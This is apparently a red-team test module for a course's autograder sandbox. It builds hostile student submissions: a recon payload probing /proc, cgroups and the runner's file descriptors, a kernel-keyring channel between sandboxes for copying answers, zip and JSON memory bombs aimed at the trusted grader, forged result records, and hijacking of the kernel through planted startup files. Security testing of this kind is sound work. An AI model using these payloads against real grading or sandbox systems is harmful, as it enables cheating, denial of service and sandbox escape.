"""Second red-team pass: real submissions against what changed after the first pass.

Same conventions as :mod:`hostile.attacks`: each attack is the student release with code in
``nnlib/perceptron.py`` (module level, or the bodies of ``predict`` and ``update``) that
passes the static screen and reaches other modules through ``typing.sys.modules``.
"""
import os
from pathlib import Path

from .attacks import lines, prelude, write_attack
from .corpus import PREDICT, STUB, correct_submission, reference_body

# --------------------------------------------------------------------------- recon (no test uses it)

RECON_TOP = r'''
def _recon():
    out = []
    def note(*a):
        out.append(" ".join(str(x) for x in a))
    def tryit(label, f):
        try:
            note(label, "->", repr(f())[:400])
        except Exception as err:
            note(label, "-> !", type(err).__name__, str(err)[:200])
    tryit("uid", lambda: (_os.getuid(), _os.getgid(), _os.getgroups()))
    tryit("root", lambda: sorted(_os.listdir("/")))
    tryit("sys", lambda: _os.listdir("/sys"))
    tryit("cgroupfs", lambda: _os.listdir("/sys/fs/cgroup"))
    tryit("proc", lambda: sorted(p for p in _os.listdir("/proc") if p.isdigit()))
    tryit("cmdlines", lambda: [(p, open(f"/proc/{p}/cmdline","rb").read()[:80]) for p in _os.listdir("/proc") if p.isdigit()])
    tryit("selfcgroup", lambda: open("/proc/self/cgroup").read())
    tryit("mounts", lambda: open("/proc/self/mounts").read()[:1500])
    tryit("dev", lambda: sorted(_os.listdir("/dev")))
    tryit("devshm", lambda: (_os.stat("/dev/shm").st_mode, open("/dev/shm/x", "w").write("x")))
    tryit("devstat", lambda: oct(_os.stat("/dev").st_mode))
    tryit("kmsg", lambda: open("/dev/kmsg").read(10))
    tryit("sysrq", lambda: open("/proc/sysrq-trigger", "w"))
    tryit("meminfo", lambda: open("/proc/meminfo").read(60))
    tryit("limits", lambda: open("/proc/self/limits").read())
    tryit("caps", lambda: [l for l in open("/proc/self/status") if l.startswith(("Cap", "NoNewPrivs", "Seccomp"))])
    def keyring():
        ct = _load("ctypes")
        libc = ct.CDLL(None, use_errno=True)
        libc.syscall.restype = ct.c_long
        kid = libc.syscall(248, b"user", b"nncourse-rt2", b"hello", 5, -4)  # add_key, user keyring
        return kid, ct.get_errno()
    tryit("keyring", keyring)
    def cgwrite():
        for root, dirs, files in _os.walk("/sys/fs/cgroup"):
            for f in files:
                if f in ("cgroup.procs", "memory.limit_in_bytes", "pids.max", "memory.max"):
                    try:
                        open(_os.path.join(root, f), "w").write("-1")
                        return "wrote " + root + "/" + f
                    except OSError as err:
                        pass
        return "nothing writable"
    tryit("cgwrite", cgwrite)
    def runner_pipe():
        found = []
        for p in _os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                if b"probes.runner" in open(f"/proc/{p}/cmdline", "rb").read():
                    for fd in _os.listdir(f"/proc/{p}/fd"):
                        found.append((p, fd, _os.readlink(f"/proc/{p}/fd/{fd}")))
            except OSError as err:
                found.append((p, "!", type(err).__name__))
        return found
    tryit("runner fds", runner_pipe)
    for line in out:
        print(_MARK, line)
    print(_MARK, "ran")


_ip = _load("IPython").get_ipython()
if _ip is not None:
    _recon()
'''


def build_recon(folder):
    write_attack(folder, "recon", RECON_TOP)


# --------------------------------------------------------------------------- a channel between sandboxes

KEYRING_TOP = r'''
_ct = _load("ctypes")
_hashlib = _load("hashlib")
_libc = _ct.CDLL(None, use_errno=True)
_libc.syscall.restype = _ct.c_long
_ADD_KEY, _KEYCTL, _USER_KEYRING, _KEYCTL_SEARCH, _KEYCTL_READ = 248, 250, -4, 10, 11


def _key_of(w, b, X):
    digest = _hashlib.sha1(np.asarray(w, np.float64).tobytes() + np.float64(b).tobytes()
                           + np.asarray(X, np.float64).tobytes()).hexdigest()[:20]
    return ("rt2-" + digest).encode()


def _stash(w, b, X, labels):
    data = np.asarray(labels, np.int8).tobytes()
    _libc.syscall(_ADD_KEY, b"user", _key_of(w, b, X), data, len(data), _USER_KEYRING)


def _fetch(w, b, X):
    kid = _libc.syscall(_KEYCTL, _KEYCTL_SEARCH, _USER_KEYRING, b"user", _key_of(w, b, X), 0)
    if kid < 0:
        return None
    buf = _ct.create_string_buffer(4096)
    n = _libc.syscall(_KEYCTL, _KEYCTL_READ, kid, buf, 4096)
    return None if n < 0 else np.frombuffer(buf.raw[:n], np.int8).astype(np.int64)


print(_MARK, "ran")
'''


def build_keyring_friend(folder):
    """Correct code that also leaves every label it predicts in its user's kernel keyring
    (``add_key``: no seccomp filter stops it), which outlives the sandbox."""
    write_attack(folder, "keyring_friend", KEYRING_TOP,
                 predict=reference_body(PREDICT)[:-1] + [
                     "_labels = " + reference_body(PREDICT)[-1].strip()[len("return "):],
                     "_stash(self.w, self.b, X, _labels)", "return _labels"])


def build_keyring_copier(folder):
    """Stubs whose ``predict`` returns what a friend's sandbox left in the keyring."""
    write_attack(folder, "keyring_copier", KEYRING_TOP,
                 predict=["_labels = _fetch(self.w, self.b, X)", "if _labels is None:",
                          "    raise NotImplementedError", "return _labels"],
                 update=STUB)


# --------------------------------------------------------------------------- the trusted side's inputs

JSON_BOMB_TOP = r'''
_io = _load("io")
_BOMB = _MARK + ".npz"  # in the working folder: the results folder's file system
_ITEMS = ITEMS


def _write_bomb():
    """A valid, uncompressed plain-data archive: a JSON list of millions of empty dicts
    (3 bytes each in the archive, about 130 bytes each once decoded, twice)."""
    document = ("[" + ",".join(["{}"] * _ITEMS) + "]").encode()
    np.savez(_BOMB, __json__=np.frombuffer(document, np.uint8))


def _swap_in_the_bomb(*args):
    target = ".nncourse-results/test_predict_hidden.npz"
    if _os.path.exists(target):
        _os.replace(_BOMB, target)


_ip = _load("IPython").get_ipython()
if _ip is not None and not _os.path.exists(_BOMB):
    _write_bomb()
    _ip.events.register("post_run_cell", _swap_in_the_bomb)
    print(_MARK, "ran: the bomb is", _os.path.getsize(_BOMB), "bytes")
'''
JSON_BOMB_ITEMS = 6_000_000  # 18 MB in the archive (a 64 MB result is allowed): ~0.9 GB decoded


def build_json_bomb(folder, items=JSON_BOMB_ITEMS):
    """Stubs; a hook swaps ``test_predict_hidden``'s result for an archive that passes every
    size check of ``plaindata.from_bytes`` (stored, headers honest, within 64 MB) but whose
    JSON is millions of empty dicts: the trusted worker decodes it (and the diagnosis decodes
    it again) into Python objects ~40 times its size."""
    write_attack(folder, "json_bomb", JSON_BOMB_TOP.replace("ITEMS", str(items)),
                 predict=STUB, update=STUB)


IMPORT_FORGE_TOP = r'''
_io = _load("io")
_json = _load("json")


def _forge_import_failure(*args):
    """Leave a result saying nnlib failed to import, with the file name FILE."""
    _os.makedirs(".nncourse-results", exist_ok=True)
    document = _json.dumps({"ename": "KeyboardInterrupt", "file": FILE, "line": 1}).encode()
    np.savez(".nncourse-results/__import__.npz", __json__=np.frombuffer(document, np.uint8))


_ip = _load("IPython").get_ipython()
if _ip is not None:
    _ip.events.register("post_run_cell", _forge_import_failure)
    print(_MARK, "ran")
'''


def build_import_nul(folder):
    """Correct code; a forged import-failure record whose file name holds a NUL byte (the
    grader's ``Path.resolve`` raises ValueError, which ``_import_failure`` does not catch)."""
    write_attack(folder, "import_nul", IMPORT_FORGE_TOP.replace("FILE", repr("perceptron.py\0")))


def build_huge_int(folder):
    """Correct labels, then ``self.b`` set to a Python int beyond int64 (probe_predict returns
    ``p.b`` as is: plain data, but ``np.asarray`` makes it an object array in the judge)."""
    write_attack(folder, "huge_int", "print(_MARK, \"ran\")",
                 predict=["_labels = (X @ self.w + self.b >= 0).astype(np.int64)",
                          "self.b = 10 ** 30", "return _labels"])


# --------------------------------------------------------------------------- the batch's main process

UNDECODABLE_ID = b"student-\xff".decode("utf-8", "surrogateescape")  # a folder name that is not UTF-8
LONG_ID = "s" * 250  # a valid folder name (<= 255 bytes); "<id>.json.partial" is not


def build_named(folder):
    """Correct code: what is hostile is the student folder's name, chosen by the caller."""
    correct_submission(folder)


def build_deep_path(folder):
    """Correct code, and beside it folders nested until a folder's path is just under
    PATH_MAX (4096): a file in the deepest one has a path the kernel refuses (ENAMETOOLONG),
    although each step to it is valid. The grader's fingerprint of the submission lstat()s
    every file by its full path."""
    correct_submission(folder)
    fd = os.open(folder, os.O_RDONLY)
    length = len(os.fsencode(os.path.abspath(folder)))
    try:
        while length < 4096 - 200 - 2:
            name = "d" * min(200, 4096 - 200 - 2 - length)
            os.mkdir(name, dir_fd=fd)
            next_fd = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd, length = next_fd, length + 1 + len(name)
        os.close(os.open("f" * 200, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)


# --------------------------------------------------------------------------- third pass: plain data's own reader

OVERLAP_BOMB_TOP = r'''
_io, _struct, _zipfile = _load("io"), _load("struct"), _load("zipfile")
_BOMB = _MARK + ".npz"  # in the working folder: the results folder's file system


def _npy(array):
    buffer = _io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def _write_bomb():
    """A stored archive of one MEGABYTES MB array whose central directory names it COPIES
    more times (every entry points at the same local header): small, but every member is
    copied when read."""
    buffer = _io.BytesIO()
    with _zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("__json__.npy", _npy(np.frombuffer(b'{"__array__": "a0"}', np.uint8)))
        archive.writestr("a0.npy", _npy(np.zeros(MEGABYTES << 17)))
    raw = buffer.getvalue()
    eocd = raw.rindex(b"PK\x05\x06")
    size, offset = _struct.unpack("<II", raw[eocd + 12:eocd + 20])
    directory, entries, i = raw[offset:offset + size], [], 0
    while i < len(directory):
        n, m, k = _struct.unpack("<HHH", directory[i + 28:i + 34])
        entries.append(directory[i:i + 46 + n + m + k])
        i += 46 + n + m + k
    a0 = entries[1]
    entries += [a0[:28] + _struct.pack("<H", len(name)) + a0[30:46] + name
                for name in (f"b{j}.npy".encode() for j in range(COPIES))]
    directory, total = b"".join(entries), len(entries)
    with open(_BOMB, "wb") as fh:
        fh.write(raw[:offset] + directory + b"PK\x05\x06"
                 + _struct.pack("<HHHHIIH", 0, 0, total, total, len(directory), offset, 0))


def _swap_in_the_bomb(*args):
    target = ".nncourse-results/test_predict_hidden.npz"
    if _os.path.exists(target):
        _os.replace(_BOMB, target)


_ip = _load("IPython").get_ipython()
if _ip is not None and not _os.path.exists(_BOMB):
    _write_bomb()
    _ip.events.register("post_run_cell", _swap_in_the_bomb)
    print(_MARK, "ran: the bomb is", _os.path.getsize(_BOMB), "bytes")
'''


def build_overlap_bomb(folder, megabytes=4, copies=250):
    """Stubs; a hook swaps ``test_predict_hidden``'s result for a stored archive of a
    ``megabytes`` MB array named ``copies`` more times in the central directory, every entry
    pointing at the one local header. ``plaindata.from_bytes`` slices members by their local
    headers and copies each: 4 MB in the archive, 1 GB in the trusted worker (a 64 MB
    archive, with 65535 entries: terabytes)."""
    write_attack(folder, "overlap_bomb", OVERLAP_BOMB_TOP.replace("MEGABYTES", str(megabytes))
                 .replace("COPIES", str(copies)), predict=STUB, update=STUB)


# --------------------------------------------------------------------------- third pass: chapter 5's trained model

CH05 = "ch05_regularization"
CH05_RELEASE = Path(__file__).resolve().parents[2] / "exercises" / CH05

WIDE_MODEL_TOP = r'''
_json = _load("json")
_BOMB = _MARK + ".npz"  # in the working folder: the results folder's file system


def _write_bomb():
    """The trained model's result, forged: Linear(64, WIDTH), DEPTH Tanh layers,
    Linear(WIDTH, 10), its weights as bytes (arrays of uint8 are plain data, and the
    judge takes integers): 3 MB that the reference's forward pass holds as DEPTH + 1
    float64 activations of 300 x WIDTH (each ~100 MB)."""
    layers = ([{"type": "Linear", "W": {"__array__": "a0"}, "b": {"__array__": "a1"}}]
              + [{"type": "Tanh"}] * DEPTH
              + [{"type": "Linear", "W": {"__array__": "a2"}, "b": {"__array__": "a3"}}])
    document = _json.dumps([{"found": True, "container": "Sequential", "layers": layers}]).encode()
    np.savez(_BOMB, __json__=np.frombuffer(document, np.uint8), a0=np.ones((WIDTH, 64), np.uint8),
             a1=np.zeros(WIDTH, np.uint8), a2=np.ones((10, WIDTH), np.uint8), a3=np.zeros(10, np.uint8))


def _swap_in_the_bomb(*args):
    target = ".nncourse-results/test_regularized_training.npz"
    if _os.path.exists(target) and _os.path.exists(_BOMB):
        _os.replace(_BOMB, target)


_ip = _load("IPython").get_ipython()
if _ip is not None and not _os.path.exists(_BOMB):
    _write_bomb()
    _ip.events.register("post_run_cell", _swap_in_the_bomb)
    print(_MARK, "ran: the bomb is", _os.path.getsize(_BOMB), "bytes")
'''


def build_wide_model(folder, width=40_000, depth=8, case="wide_model", found="True"):
    """Chapter 5's release (stubs) whose ``nnlib/perceptron.py`` (every nnlib module is
    imported by the first graded cell) swaps the trained-model result for a model of
    valid shapes but ``width`` hidden units and ``depth`` activation layers: the trusted
    judge rebuilds it with the reference's layers and runs it on the 300 held-out digits."""
    import shutil
    shutil.copytree(CH05_RELEASE, folder, ignore=shutil.ignore_patterns("__pycache__"))
    module = folder / "nnlib" / "perceptron.py"
    source = module.read_text()
    top = prelude(case) + lines(WIDE_MODEL_TOP.replace("WIDTH", str(width)).replace("DEPTH", str(depth))
                                .replace('"found": True', f'"found": {found}'))
    module.write_text(source.rstrip("\n") + "\n\n\n" + "\n".join(top) + "\n")


# --------------------------------------------------------------------------- third pass: the kernel's launch

SHADOW_KERNEL_TOP = r'''
_HIJACKED = _MARK + ".hijacked"  # the shadowing kernel leaves it in the working folder


def _plant_and_die():
    """A ``probes`` package in the working folder (the kernel's cwd), whose ``kernel``
    notes that it ran, then starts the real one; then end this kernel so the runner
    starts another with ``python -m probes.kernel``."""
    _os.makedirs("probes", exist_ok=True)
    with open("probes/__init__.py", "w") as fh:
        fh.write("__path__.append('/job/lib/probes')\n")
    with open("probes/kernel.py", "w") as fh:
        fh.write("open(" + repr(_HIJACKED) + ", 'w').close()\n"
                 "exec(compile(open('/job/lib/probes/kernel.py').read(), 'kernel', 'exec'))\n")
    _os._exit(1)


_ip = _load("IPython").get_ipython()
if _ip is not None:
    if _os.path.exists("probes"):  # a restarted kernel: say which in every later cell's output
        _SAYS = ("ran: this kernel was started from the planted probes package" if _os.path.exists(_HIJACKED)
                 else "ran: planted, but this kernel is the real one")
        _ip.events.register("post_run_cell", lambda *args: print(_MARK, _SAYS))
    else:
        _plant_and_die()
'''


def build_shadow_kernel(folder):
    """Correct code, plus module-level code that plants ``probes/kernel.py`` in the working
    folder and kills the kernel: if the restarted kernel is the planted one, a later import
    of nnlib says so in the executed notebook."""
    write_attack(folder, "shadow_kernel", SHADOW_KERNEL_TOP)


def build_empty_layer(folder):
    """As :func:`build_wide_model`, with a hidden layer of no units: Linear(64, 0), Tanh,
    Linear(0, 10), shapes that chain (W of shape (0, 64), then (10, 0))."""
    build_wide_model(folder, width=0, depth=1, case="empty_layer")


def build_array_found(folder):
    """As :func:`build_wide_model` (two hidden units), whose ``found`` is an array of two
    zeros instead of True: the judge asked ``not got.get("found")``."""
    build_wide_model(folder, width=2, depth=1, case="array_found", found='{"__array__": "a1"}')


STARTUP_FILE_TOP = r'''
_HIJACKED = _MARK + ".startup"  # the planted startup file leaves it in the working folder
_ip = _load("IPython").get_ipython()
if _ip is not None:
    if _os.path.exists(_MARK + ".planted"):  # a restarted kernel: say which in later cells
        _SAYS = ("ran: the planted startup file ran" if _os.path.exists(_HIJACKED)
                 else "ran: planted, but no startup file ran")
        _ip.events.register("post_run_cell", lambda *args: print(_MARK, _SAYS))
    else:
        _startup = _os.path.join(_ip.profile_dir.location, "startup")
        _os.makedirs(_startup, exist_ok=True)
        with open(_os.path.join(_startup, "00-planted.py"), "w") as fh:
            fh.write("open(" + repr(_HIJACKED) + ", 'w').close()\n")
        open(_MARK + ".planted", "w").close()
        _os._exit(1)
'''


def build_startup_file(folder):
    """Correct code, plus module-level code that writes an IPython startup file into the
    kernel's profile (under the writable HOME) and kills the kernel: if the restarted
    kernel runs it, later cells say so in the executed notebook."""
    write_attack(folder, "startup_file", STARTUP_FILE_TOP)
